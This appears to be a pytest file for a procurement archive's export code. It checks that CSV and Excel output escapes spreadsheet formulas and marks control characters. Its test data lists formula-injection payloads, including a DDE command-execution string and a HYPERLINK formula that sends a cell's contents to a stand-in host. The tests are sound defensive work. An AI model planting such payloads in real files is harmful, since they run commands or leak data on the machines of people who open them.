"""What a spreadsheet opens it does not run (ASVS 5.0 1.2.10), and no sign on a crawled page breaks a file."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime

import openpyxl
import pytest

from archive import handing
from archive.handing.pages import as_csv
from archive.ledger import ProcurementRow
from archive.model import Handout
from archive.sheets import fill_workbook, safe, write_csv
from tests.fakes.storing import AT

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://ond.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
SIGNS = "".join(map(chr, range(32))) + "\x7f\x85\ud800\ufffe\uffff\u2028"
ROW = ProcurementRow(**dict.fromkeys(ProcurementRow.__dataclass_fields__) | {"value_sek": 1_000})  # type: ignore[arg-type]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text_in_every_file(formula: str) -> None:
    row = replace(ROW, object=formula, supplier=formula, evidence=formula)
    handout = Handout(
        id=1,
        at=AT,
        who=formula,
        to_whom=formula,
        reference=formula,
        question=formula,
        versions=(),
        captures=False,
        digest="",
        size=0,
    )
    made = ("".join(write_csv([row])), as_csv(("a",), [(formula,)]), handing.log_csv([handout]))
    for text in made:
        cells = [cell for each in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in each]
        assert f"'{formula}" in cells
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]
    assert [kind for value, kind in _workbook(row) if "1" in str(value) or "SUM" in str(value)].count("f") == 0


def _workbook(row: ProcurementRow) -> list[tuple[object, str]]:
    held = io.BytesIO()
    fill_workbook([row], held)
    held.seek(0)
    return [(cell.value, cell.data_type) for line in openpyxl.load_workbook(held).active for cell in line]  # type: ignore[union-attr]


def test_signs_that_a_workbook_cannot_hold_are_marked() -> None:
    values = [value for value, _ in _workbook(replace(ROW, object=f"a{SIGNS}b"))]
    assert [str(value)[0] + str(value)[-1] for value in values if str(value).startswith("a")] == ["ab"]
    assert "�" in safe(f"a{SIGNS}b")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("Ren & Fin AB; Umeå", "Ren & Fin AB; Umeå"),
        (True, "ja"),
        (-5, "'-5"),
        (date(2024, 4, 9), "2024-04-09"),
        (datetime(2024, 4, 9, tzinfo=UTC), "2024-04-09T00:00:00+00:00"),
    ],
)
def test_plain_values_stay_plain(value: object, cell: str) -> None:
    assert safe(value) == cell
